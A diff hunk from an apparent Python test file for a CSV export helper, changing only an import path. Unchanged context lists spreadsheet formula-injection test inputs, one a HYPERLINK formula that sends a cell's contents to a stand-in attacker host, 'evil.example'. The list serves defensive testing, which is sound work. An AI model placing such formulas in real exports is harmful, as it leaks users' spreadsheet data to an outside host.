@@ -8,7 +8,7 @@ import uuid
 
 from saas.kit import months
 from saas.kit.csv_export import safe_cell, to_csv
-from tests.dashboard.test_sessions import signed_in
+from tests.support.dashboard import signed_in
 
 DANGEROUS = ['=HYPERLINK("https://evil.example/?x="&A1,"Invoice")', "+1+2", "-3+4", "@SUM(1)"]
 
